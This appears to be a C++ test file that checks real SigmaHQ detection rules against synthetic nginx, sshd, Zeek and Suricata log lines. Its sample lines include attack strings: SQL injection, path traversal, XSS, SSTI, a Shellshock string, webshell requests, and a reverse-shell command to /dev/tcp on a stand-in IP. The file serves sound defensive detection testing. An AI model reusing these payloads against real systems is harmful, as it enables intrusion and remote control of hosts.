// Real SigmaHQ rules (read from the shared corpus, DRL 1.1, not copied into the repository)
// against log lines Riposte parses: each case has lines that must match and lines that must
// not. Also the corpus-wide coverage: every rule either loads or is skipped with a code.
#include <gtest/gtest.h>

#include <deque>

#include "riposte/core/registry.h"
#include "riposte/detect/rules/rule_engine.h"
#include "riposte/detect/rules/sigma.h"
#include "support/test_support.h"

namespace riposte::rules {
namespace {

std::string nginx(const std::string& method, const std::string& target, int status,
                  const std::string& ua = "Mozilla/5.0", const std::string& referrer = "-") {
  return "203.0.113.5 - - [03/Mar/2024:10:15:42 +0000] \"" + method + " " + target +
         " HTTP/1.1\" " + std::to_string(status) + " 512 \"" + referrer + "\" \"" + ua + "\"";
}

std::string sshd(const std::string& msg) { return "Mar  3 10:15:42 web1 sshd[1234]: " + msg; }

std::string zeekDns(const std::string& query) {
  return R"({"_path":"dns","ts":1700000000.5,"uid":"C2","id.orig_h":"192.0.2.53","id.orig_p":53000,)"
         R"("id.resp_h":"198.51.100.53","id.resp_p":53,"proto":"udp","query":")" +
         query + R"(","qtype_name":"A"})";
}

std::string zeekHttp(const std::string& method, const std::string& resp_h, const std::string& ua) {
  return R"({"_path":"http","ts":1700000000.25,"uid":"C1","id.orig_h":"203.0.113.7","id.orig_p":51000,)"
         R"("id.resp_h":")" +
         resp_h + R"(","id.resp_p":80,"method":")" + method +
         R"(","host":"files.example.com","uri":"/share/doc.docx","user_agent":")" + ua +
         R"(","status_code":201})";
}

std::string eveDns(const std::string& rrname) {
  return R"({"timestamp":"2024-03-03T10:15:42.000000+0000","event_type":"dns","src_ip":"192.0.2.10",)"
         R"("src_port":5353,"dest_ip":"198.51.100.53","dest_port":53,"proto":"UDP",)"
         R"("dns":{"type":"query","id":1,"rrname":")" +
         rrname + R"(","rrtype":"A","tx_id":0}})";
}

struct Case {
  const char* rule;    // under sigma/rules
  const char* parser;  // Riposte parser
  std::vector<std::string> match;
  std::vector<std::string> no_match;
};

std::vector<Case> cases() {
  const std::string b64ua = "dGVzdA==";
  return {
      {"web/webserver_generic/web_sql_injection_in_access_logs.yml",
       "nginx",
       {nginx("GET", "/p?id=1%20UNION%20SELECT%201,2", 200),
        nginx("GET", "/item?id=1%27%20or%201=1#", 200)},
       {nginx("GET", "/p?id=1%20UNION%20SELECT%201,2", 404), nginx("GET", "/p?id=12", 200),
        nginx("POST", "/p?id=1%20UNION%20SELECT%201,2", 200)}},
      {"web/webserver_generic/web_jndi_exploit.yml",
       "nginx",
       {nginx("GET", "/Basic/Command/Base64/d2hvYW1p", 200)},
       {nginx("GET", "/Basic/index.html", 200)}},
      {"web/webserver_generic/web_path_traversal_exploitation_attempt.yml",
       "nginx",
       {nginx("GET", "/cgi-bin/../../../etc/passwd", 400),
        nginx("GET", "/x?f=..%252f..%252f..%252fetc%252fpasswd", 200)},
       {nginx("GET", "/etc/passwd", 404), nginx("GET", "/a/../b", 200)}},
      {"web/webserver_generic/web_source_code_enumeration.yml",
       "nginx",
       {nginx("GET", "/.git/config", 404)},
       {nginx("GET", "/git/config", 404)}},
      {"web/webserver_generic/web_ssti_in_access_logs.yml",
       "nginx",
       {nginx("GET", "/search?q={{7*7}}", 200)},
       {nginx("GET", "/search?q={{7*7}}", 404), nginx("GET", "/search?q=77", 200)}},
      {"web/webserver_generic/web_susp_useragents.yml",
       "nginx",
       {nginx("GET", "/", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        nginx("GET", "/", 200, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")},
       {nginx("GET", "/", 200, "Mozilla/5.0 (X11; Linux x86_64)")}},
      {"web/webserver_generic/web_susp_windows_path_uri.yml",
       "nginx",
       {nginx("GET", "/download?file=C:/Windows/win.ini", 200)},
       {nginx("GET", "/download?file=report.pdf", 200)}},
      {"web/webserver_generic/web_webshell_regeorg.yml",
       "nginx",
       {nginx("POST", "/tunnel.jsp?cmd=connect&target=10.0.0.1&port=22", 200, "-")},
       {nginx("POST", "/tunnel.jsp?cmd=connect&target=10.0.0.1&port=22", 200, "Mozilla/5.0"),
        nginx("GET", "/tunnel.jsp?cmd=connect&target=10.0.0.1&port=22", 200, "-")}},
      {"web/webserver_generic/web_win_webshells_in_access_logs.yml",
       "nginx",
       {nginx("GET", "/upload/shell.aspx?c=whoami", 200)},
       {nginx("POST", "/upload/shell.aspx?c=whoami", 200), nginx("GET", "/whoami", 200)}},
      {"web/webserver_generic/web_xss_in_access_logs.yml",
       "nginx",
       {nginx("GET", "/q?s=%3Cscript%3Ealert(1)%3C/script%3E", 200)},
       {nginx("GET", "/q?s=%3Cscript%3Ealert(1)%3C/script%3E", 404), nginx("GET", "/q?s=x", 200)}},
      {"web/webserver_generic/web_java_payload_in_access_logs.yml",
       "nginx",
       {nginx("GET", "/index.action?x=%24%7B%28%23a%3D%40org.apache", 200)},
       {nginx("GET", "/index.action?x=1", 200)}},
      {"web/webserver_generic/web_iis_tilt_shortname_scan.yml",
       "nginx",
       {nginx("GET", "/*~1*/a.aspx", 200), nginx("OPTIONS", "/WEB~1/a.aspx", 301)},
       {nginx("GET", "/*~1*/a.aspx", 404), nginx("GET", "/web/a.aspx", 200)}},
      {"web/webserver_generic/web_f5_tm_utility_bash_api_request.yml",
       "nginx",
       {nginx("POST", "/mgmt/tm/util/bash", 200)},
       {nginx("GET", "/mgmt/tm/util/bash", 200)}},
      {"web/proxy_generic/proxy_ua_hacktool.yml",
       "nginx",
       {nginx("GET", "/", 200, "masscan/1.3 (https://github.com/robertdavidgraham/masscan)")},
       {nginx("GET", "/", 200, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")}},
      {"web/proxy_generic/proxy_ua_cryptominer.yml",
       "nginx",
       {nginx("GET", "/", 200, "XMRig 6.20.0 (Linux x86_64)")},
       {nginx("GET", "/", 200, "Mozilla XMRig")}},
      {"web/proxy_generic/proxy_ua_frameworks.yml",
       "nginx",
       {nginx("GET", "/", 200, "Mozilla/4.0 (compatible; Metasploit RSPEC)"),
        nginx("GET", "/", 200, "Internet Explorer 6.0")},
       {nginx("GET", "/", 200, "Mozilla/5.0 (X11; Linux x86_64)")}},
      {"web/proxy_generic/proxy_hello_world_user_agent.yml",
       "nginx",
       {nginx("GET", "/", 200, "Hello-World/1.0")},
       {nginx("POST", "/", 200, "Hello-World/1.0"), nginx("GET", "/", 200, "Hello-World/1.01")}},
      {"web/proxy_generic/proxy_ua_powershell.yml",
       "nginx",
       {nginx("GET", "/a.ps1", 200,
              "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1")},
       {nginx("GET", "/a.ps1", 200, "PowerShell-ish")}},
      {"web/proxy_generic/proxy_ua_rclone.yml",
       "nginx",
       {nginx("PUT", "/bucket/x", 200, "rclone/v1.62.2")},
       {nginx("PUT", "/bucket/x", 200, "my-rclone/v1")}},
      {"web/proxy_generic/proxy_pwndrop.yml",
       "nginx",
       {nginx("GET", "/pwndrop/payload.bin", 200)},
       {nginx("GET", "/drop/payload.bin", 200)}},
      {"web/proxy_generic/proxy_hktl_baby_shark_default_agent_url.yml",
       "nginx",
       {nginx("GET", "/momyshark?key=abc", 200)},
       {nginx("GET", "/momysharkXkey=abc", 200)}},  // the ? of the rule is escaped: not a wildcard
      {"web/proxy_generic/proxy_ua_susp_base64.yml",
       "nginx",
       {nginx("GET", "/", 200, b64ua)},
       {nginx("GET", "/", 200, "curl/8.4.0")}},
      {"web/proxy_generic/proxy_ua_empty.yml",
       "nginx",
       {nginx("GET", "/", 200, "-")},
       {nginx("GET", "/", 200, "curl/8.4.0")}},
      {"web/proxy_generic/proxy_raw_paste_service_access.yml",
       "nginx",
       {nginx("GET", "http://www.pastebin.com/raw/abc", 200),
        nginx("GET", "http://x.ghostbin.co/paste/abc/raw/", 200)},
       {nginx("GET", "/raw/abc", 200), nginx("GET", "http://x.ghostbin.co/paste/abc/view/", 200)}},
      {"web/proxy_generic/proxy_f5_tm_utility_bash_api_request.yml",
       "nginx",
       {nginx("POST", "/mgmt/tm/util/bash", 200)},
       {nginx("POST", "/mgmt/tm/util/bash2", 200)}},
      {"web/product/apache/web_apache_segfault.yml",
       "apache",
       {"[Sun Mar 03 10:15:42.123456 2024] [core:notice] [pid 1234:tid 140] AH00052: child pid "
        "5678 exit signal Segmentation fault (11)"},
       {"[Sun Mar 03 10:15:42.123456 2024] [core:notice] [pid 1234:tid 140] AH00094: Command "
        "line: '/usr/sbin/apache2'"}},
      {"web/product/nginx/web_nginx_core_dump.yml",
       "nginx",
       {"2024/03/03 10:15:42 [alert] 1234#1234: worker process 5678 exited on signal 6 (core "
        "dumped)"},
       {"2024/03/03 10:15:42 [notice] 1234#1234: signal process started"}},
      {"linux/builtin/sshd/lnx_sshd_susp_ssh.yml",
       "sshd",
       {sshd("ssh_dispatch_run_fatal: Connection from 203.0.113.9 port 52144: Corrupted MAC on "
             "input. [preauth]")},
       {sshd("Failed password for root from 203.0.113.9 port 52144 ssh2")}},
      {"linux/builtin/lnx_shellshock.yml",
       "sshd",
       {sshd("Invalid user () { :; }; /bin/bash from 203.0.113.9 port 4242")},
       {sshd("Invalid user admin from 203.0.113.9 port 4242")}},
      {"linux/builtin/lnx_buffer_overflows.yml",
       "sshd",
       {sshd("Invalid user " + std::string(120, 'A') + " from 203.0.113.9 port 4242")},
       {sshd("Invalid user " + std::string(20, 'A') + " from 203.0.113.9 port 4242")}},
      {"linux/builtin/lnx_susp_jexboss.yml",
       "sshd",
       {sshd("Invalid user bash -c /bin/bash 0>&/dev/tcp/198.51.100.1/4444 from 203.0.113.9 port "
             "1")},
       {sshd("Invalid user bash -c /bin/bash from 203.0.113.9 port 1")}},
      {"network/zeek/zeek_http_webdav_put_request.yml",
       "zeek",
       {zeekHttp("PUT", "198.51.100.80", "Microsoft-WebDAV-MiniRedir/10.0.19045")},
       {zeekHttp("PUT", "10.0.0.80", "Microsoft-WebDAV-MiniRedir/10.0.19045"),
        zeekHttp("GET", "198.51.100.80", "Microsoft-WebDAV-MiniRedir/10.0.19045")}},
      {"network/zeek/zeek_dns_torproxy.yml",
       "zeek",
       {zeekDns("facebookcorewwwi.onion.to")},
       {zeekDns("example.to")}},
      {"network/zeek/zeek_dns_nkn.yml",
       "zeek",
       {zeekDns("mainnet-seed-0001.nkn.org")},
       {zeekDns("seed.example.org"), zeekDns("www.nkn.org")}},
      {"network/dns/net_dns_susp_telegram_api.yml",
       "eve",
       {eveDns("api.telegram.org"), eveDns("API.Telegram.org")},
       {eveDns("telegram.org")}},
      {"network/dns/net_dns_mal_cobaltstrike.yml",
       "eve",
       {eveDns("aaa.stage.14919385.example.com"), eveDns("x.stage.123456.example.com")},
       {eveDns("stage.example.com")}},
      {"network/dns/net_dns_pua_cryptocoin_mining_xmr.yml",
       "zeek",
       {zeekDns("pool.supportxmr.com")},
       {zeekDns("supportxmr.example.com")}},
  };
}

class SigmaCorpusTest : public ::testing::Test {
 protected:
  void SetUp() override { ASSERT_TRUE(registerBuiltins(reg_).isOk()); }
  Registries reg_;
};

TEST_F(SigmaCorpusTest, RealRulesMatchAndDoNotMatch) {
  RIPOSTE_REQUIRE_CORPUS(dir, "sigma/rules");
  const auto all = cases();
  ASSERT_GE(all.size(), 30u);
  size_t lines = 0;
  for (const Case& c : all) {
    SCOPED_TRACE(c.rule);
    auto loaded = loadRuleFiles({(dir / c.rule).string()});
    ASSERT_FALSE(loaded.hasErrors()) << loaded.toJson();
    ASSERT_EQ(loaded.rules.size(), 1u) << loaded.toJson();
    ComponentConfig pc;
    pc.name = pc.type = c.parser;
    pc.path = "test";
    auto parser = reg_.parsers.create(pc, FactoryContext{});
    ASSERT_TRUE(parser.isOk());
    RuleEngine engine("sigma", std::move(loaded.rules));
    ParseContext ctx;
    ctx.year = 2024;
    auto run = [&](const std::string& line) {
      Event e;
      e.setRaw(line);
      EXPECT_EQ((*parser)->parse(line, ctx, e), ParseResult::kParsed) << line;
      size_t n = 0;
      engine.onEvent(e, [&](Finding&&) { ++n; });
      ++lines;
      return n;
    };
    for (const auto& l : c.match) EXPECT_EQ(run(l), 1u) << "must match: " << l;
    for (const auto& l : c.no_match) EXPECT_EQ(run(l), 0u) << "must not match: " << l;
  }
  std::printf("%zu Sigma corpus rules, %zu lines checked\n", all.size(), lines);
}

TEST_F(SigmaCorpusTest, EveryCorpusRuleLoadsOrIsSkippedWithACode) {
  RIPOSTE_REQUIRE_CORPUS(dir, "sigma/rules");
  auto r = loadRuleFiles({dir.string()});
  EXPECT_FALSE(r.hasErrors()) << r.toJson();
  EXPECT_EQ(r.sigma.loaded + r.sigma.skippedCount() + r.sigma.referenced_only, r.sigma.rules);
  EXPECT_GE(r.sigma.rules, 300u);
  // Every rule of the logsources Riposte parses loads unless it names a field Riposte lacks.
  for (const auto& [code, features] : r.sigma.skipped) {
    EXPECT_TRUE(code == "S001" || code == "S002" || code == "S003" || code == "S009") << code;
  }
  std::printf("corpus: %zu Sigma rules, %zu loaded, %zu skipped\n", r.sigma.rules, r.sigma.loaded,
              r.sigma.skippedCount());
  for (const auto& [code, features] : r.sigma.skipped) {
    for (const auto& [f, n] : features) std::printf("  %s %s: %zu\n", code.c_str(), f.c_str(), n);
  }
  // The web, sshd and DNS rules of the cases above all load.
  size_t web = 0;
  for (const auto& rule : r.rules) web += rule.file.find("webserver_generic") != std::string::npos;
  EXPECT_EQ(web, 13u);
}

}  // namespace
}  // namespace riposte::rules
